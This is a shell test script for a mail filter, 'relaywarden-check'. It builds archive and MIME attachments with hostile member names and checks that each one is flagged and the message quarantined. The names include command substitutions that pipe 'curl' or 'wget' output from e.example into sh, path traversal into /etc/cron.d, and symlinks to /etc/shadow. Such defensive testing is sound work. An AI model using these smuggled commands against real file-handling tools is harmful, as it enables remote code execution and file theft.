#!/bin/bash
# test_names.sh - names built to attack the tools that handle them (issue
# 10 item 3, the CVE-2023-2868 class) through relaywarden-check --json:
# tar, tar.gz, zip (python3's tarfile and zipfile) and 7z (the 7z tool,
# from files and a symlink on disk) made here, with hostile and ordinary
# member names, symlink, hardlink, device and FIFO entries, a tar.gz
# inside a zip, and hostile MIME names.  Each member is checked by its
# reason and detail, the ordinary ones for no reason at all.
set -u
: "${top_srcdir:?}" "${top_builddir:?}"
. "$top_srcdir/tests/cli/clilib.sh"

# The archives and messages.  Each message's expectations go to
# NAME.want: one line per member path, "rule<TAB>detail part", or
# "-" for an ordinary member that must raise nothing.
$PY - "$t" <<'P' || { echo "not ok - python3 built the archives"; exit 1; }
import base64, io, os, sys, tarfile, zipfile
out = sys.argv[1]
H = ("From: a@sender.example\nTo: b@dest.example\nSubject: files\n"
     "MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n\n"
     "--b\nContent-Type: text/plain\n\nsee attached\n")

def part(name, data):
    return ("--b\nContent-Type: application/octet-stream\n"
            "Content-Disposition: attachment; filename=\"%s\"\n"
            "Content-Transfer-Encoding: base64\n\n%s\n" %
            (name, base64.encodebytes(data).decode()))

HOSTILE = [
    ("'`echo aGk= | base64 -d | sh`'.txt", "attach_hostile_name", "shell"),
    ("$(curl e.example|sh).pdf", "attach_hostile_name", "shell: $("),
    ("x; wget -O- e.example | sh.txt", "attach_hostile_name",
     "shell: command after ;"),
    ("../../etc/cron.d/evil", "attach_hostile_name", "traversal"),
    ("/etc/passwd", "attach_hostile_name", "absolute: /"),
    ("bell\x07.txt", "attach_hostile_name", "control"),
    ("..\uff0fup.txt", "attach_hostile_name", "lookalike"),
]
ORDINARY = ["Q&A.docx", "O'Brien & Sons (final) - v2.pdf",
            "Smith & Sons; draft.pdf", "Bericht M\u00e4rz.txt",
            "\u5831\u544a.txt", "docs/AT&T invoice [2].txt"]

def tar(mode):
    b = io.BytesIO()
    with tarfile.open(fileobj=b, mode=mode, format=tarfile.PAX_FORMAT) as t:
        for n in [h[0] for h in HOSTILE] + ORDINARY:
            ti = tarfile.TarInfo(n)
            ti.size = 2
            t.addfile(ti, io.BytesIO(b"x\n"))
        for n, ty, link in (("link", tarfile.SYMTYPE, "/etc/shadow"),
                            ("hard", tarfile.LNKTYPE, "Q&A.docx"),
                            ("tty", tarfile.CHRTYPE, ""),
                            ("pipe", tarfile.FIFOTYPE, "")):
            ti = tarfile.TarInfo(n)
            ti.type = ty
            ti.linkname = link
            t.addfile(ti)
    return b.getvalue()

def zipped(members):
    b = io.BytesIO()
    with zipfile.ZipFile(b, "w", zipfile.ZIP_DEFLATED) as z:
        for n, d in members:
            z.writestr(n, d)
        zi = zipfile.ZipInfo("link")
        zi.create_system = 3
        zi.external_attr = (0o120777 << 16)
        z.writestr(zi, "/etc/shadow")
    return b.getvalue()

def want(name, prefix, special):
    with open(os.path.join(out, name + ".want"), "w") as f:
        for n, r, d in HOSTILE:
            f.write("%s/%s\t%s\t%s\n" % (prefix, n, r, d))
        for n in ORDINARY:
            f.write("%s/%s\t-\t-\n" % (prefix, n))
        for n, d in special:
            f.write("%s/%s\tattach_special_member\t%s\n" % (prefix, n, d))

tar_special = [("link", "symlink -> /etc/shadow"),
               ("hard", "hardlink -> Q&A.docx"), ("tty", "device"),
               ("pipe", "fifo")]
for name, mode in (("names.tar", "w"), ("names.tar.gz", "w:gz")):
    open(os.path.join(out, name + ".eml"), "w").write(
        H + part(name, tar(mode)) + "--b--\n")
    want(name, name, tar_special)
regular = [(h[0], "x\n") for h in HOSTILE] + [(n, "x\n") for n in ORDINARY]
open(os.path.join(out, "names.zip.eml"), "w").write(
    H + part("names.zip", zipped(regular)) + "--b--\n")
want("names.zip", "names.zip", [("link", "symlink -> /etc/shadow")])
# a tar.gz inside a zip: depth 2
open(os.path.join(out, "nested.zip.eml"), "w").write(
    H + part("nested.zip", zipped([("inner.tar.gz", tar("w:gz"))])) +
    "--b--\n")
want("nested.zip", "nested.zip/inner.tar.gz", tar_special)
# MIME names
open(os.path.join(out, "mime.eml"), "w").write(H +
    "--b\nContent-Type: application/octet-stream\n"
    "Content-Disposition: attachment;\n"
    " filename*=utf-8''..%2F..%2Fetc%2Fcron.d%2Ftrav2231\n\nx\n"
    "--b\nContent-Type: application/octet-stream\n"
    "Content-Disposition: attachment;\n"
    " filename=\"=?utf-8?B?JChpZCkucGRm?=\"\n\nx\n"
    "--b\nContent-Type: application/pdf\n"
    "Content-Disposition: attachment;\n"
    " filename=\"O'Brien & Sons (final) - Q&A.pdf\"\n\nx\n--b--\n")
with open(os.path.join(out, "mime.want"), "w") as f:
    f.write("trav2231\tattach_hostile_name\ttraversal\n")
    f.write("$(id).pdf\tattach_hostile_name\tshell: $(\n")
    f.write("O'Brien & Sons (final) - Q&A.pdf\t-\t-\n")
# ordinary names only: nothing at all
b = io.BytesIO()
with tarfile.open(fileobj=b, mode="w:gz", format=tarfile.PAX_FORMAT) as t:
    for n in ORDINARY:
        ti = tarfile.TarInfo(n)
        ti.size = 2
        t.addfile(ti, io.BytesIO(b"x\n"))
open(os.path.join(out, "plain.eml"), "w").write(
    H + part("Q&A (final).tar.gz", b.getvalue()) + "--b--\n")
# files for 7z: names with shell syntax and a symlink, on disk
d = os.path.join(out, "7zsrc")
os.mkdir(d)
for n in ["'`id`'.txt", "$(curl e.example|sh).pdf", "Q&A.docx",
          "O'Brien.pdf", "\u5831\u544a.txt"]:
    open(os.path.join(d, n), "w").write("x\n")
os.symlink("/etc/shadow", os.path.join(d, "link"))
P

# 7z from the files on disk, links stored as links (-snl).
(cd "$t/7zsrc" && 7z a -snl "$t/names.7z" . >/dev/null) ||
	not_ok "7z built the archive"
$PY - "$t" <<'P'
import base64, os, sys
out = sys.argv[1]
data = open(os.path.join(out, "names.7z"), "rb").read()
open(os.path.join(out, "names.7z.eml"), "w").write(
    "From: a@sender.example\nTo: b@dest.example\nSubject: files\n"
    "MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n\n"
    "--b\nContent-Type: application/x-7z-compressed\n"
    "Content-Disposition: attachment; filename=\"names.7z\"\n"
    "Content-Transfer-Encoding: base64\n\n%s\n--b--\n" %
    base64.encodebytes(data).decode())
with open(os.path.join(out, "names.7z.want"), "w") as f:
    f.write("names.7z/'`id`'.txt\tattach_hostile_name\tshell\n")
    f.write("names.7z/$(curl e.example|sh).pdf\tattach_hostile_name\t"
            "shell: $(\n")
    f.write("names.7z/Q&A.docx\t-\t-\n")
    f.write("names.7z/O'Brien.pdf\t-\t-\n")
    f.write("names.7z/\u5831\u544a.txt\t-\t-\n")
    f.write("names.7z/link\tattach_special_member\tsymlink -> /etc/shadow\n")
P

# judge NAME: relaywarden-check --json on NAME.eml against NAME.want;
# the message is quarantined by the hard rule.
judge() {
	local name=$1
	if ! "$CHECK" -c "$t/rw.conf" --client-ip 198.51.100.7 --json \
	    "$t/$name.eml" >"$t/$name.json" 2>"$t/err"; then
		not_ok "$name: relaywarden-check ran" "$(cat "$t/err")"
		return
	fi
	if msg=$($PY - "$t/$name.json" "$t/$name.want" <<'P'
import json, sys
r = json.load(open(sys.argv[1]))
items = {}
for a in r["attachments"]:
    items[a["path"] if a["path"] is not None else a["filename"]] = a
bad = []
for line in open(sys.argv[2]):
    path, rule, detail = line.rstrip("\n").split("\t")
    it = items.get(path) or items.get(path.replace("\\", "/"))
    if it is None:
        bad.append("no item %r" % path)
    elif rule == "-":
        if it["reasons"]:
            bad.append("%r raised %s" % (path, it["reasons"]))
    elif not any(x["rule"] == rule and detail in x["detail"]
                 for x in it["reasons"]):
        bad.append("%r: want %s (%s), got %s" % (path, rule, detail,
                                                 it["reasons"]))
v = r["verdict"]
if v["action"] != "quarantine":
    bad.append("action %s" % v["action"])
if not any(x["rule"] == "attach_hostile_name" for x in v["reasons"]):
    bad.append("no attach_hostile_name in the verdict")
print("; ".join(bad))
sys.exit(1 if bad else 0)
P
	); then
		ok "$name: every member judged by reason and detail"
	else
		not_ok "$name: every member judged by reason and detail" "$msg"
	fi
}

for m in names.tar names.tar.gz names.zip names.7z nested.zip mime; do
	judge "$m"
done

# Ordinary names only: no attachment reason, accepted.
if "$CHECK" -c "$t/rw.conf" --client-ip 198.51.100.7 --json \
    "$t/plain.eml" >"$t/plain.json" 2>"$t/err" &&
    $PY - "$t/plain.json" <<'P'
import json, sys
r = json.load(open(sys.argv[1]))
att = [x["rule"] for x in r["verdict"]["reasons"]
       if x["rule"].startswith("attach_")]
assert not att, att
assert len(r["attachments"]) == 7, r["attachments"]
assert r["verdict"]["action"] == "accept", r["verdict"]
P
then
	ok "ordinary names raise nothing"
else
	not_ok "ordinary names raise nothing" "$(cat "$t/err" "$t/plain.json")"
fi

echo "$pass passed, $fail failed"
[ "$fail" = 0 ]
